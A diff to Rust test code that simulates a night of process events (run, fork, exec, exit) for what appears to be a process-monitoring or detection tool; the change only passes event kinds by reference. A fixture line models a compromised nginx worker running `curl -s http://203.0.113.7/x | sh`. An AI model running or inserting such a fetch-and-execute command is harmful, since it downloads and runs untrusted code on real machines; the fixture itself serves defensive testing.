@@ -121,8 +121,8 @@ fn program_of<'a>(arguments: &'a [u8], file: &'a [u8], cwd: &'a [u8]) -> Program
 }
 
 impl Night {
-    fn tell(&mut self, time: BootTime, kind: EventKind<'_>) {
-        self.builder.get_or_insert_with(|| BlockBuilder::new(0)).push(&Event { time, kind });
+    fn tell(&mut self, time: BootTime, kind: &EventKind<'_>) {
+        self.builder.get_or_insert_with(|| BlockBuilder::new(0)).push(&Event { time, kind: *kind });
     }
 
     /// It ran before anybody looked.
@@ -136,7 +136,7 @@ impl Night {
             program,
             ..Running::default()
         };
-        self.tell(at("02:30:00"), EventKind::Running(running));
+        self.tell(at("02:30:00"), &EventKind::Running(running));
         hero
     }
 
@@ -149,7 +149,7 @@ impl Night {
             parent_tid: parent.key.pid,
             ..Fork::default()
         };
-        self.tell(began, EventKind::Fork(fork));
+        self.tell(began, &EventKind::Fork(fork));
         hero
     }
 
@@ -165,7 +165,7 @@ impl Night {
             context: who.context(),
             program,
         };
-        self.tell(start, EventKind::Exec(exec));
+        self.tell(start, &EventKind::Exec(exec));
         after
     }
 
@@ -183,7 +183,7 @@ impl Night {
             comm: b"comm",
             ..Exit::default()
         };
-        self.tell(at(clock), EventKind::Exit(exit));
+        self.tell(at(clock), &EventKind::Exit(exit));
     }
 
     fn whole(&mut self) {
@@ -203,7 +203,7 @@ impl Night {
         let worker = self.fork("02:59:00", 101, nginx);
         self.tell(
             at("02:59:01"),
-            EventKind::Change(procession::Change { process: worker.subject(), context: WEB.context() }),
+            &EventKind::Change(procession::Change { process: worker.subject(), context: WEB.context() }),
         );
         let shell = program("sh\0-c\0curl -s http://203.0.113.7/x | sh\0", "/usr/bin/dash", "/var/www");
         let shell = self.run("03:01:00", 200, worker, WEB, shell);
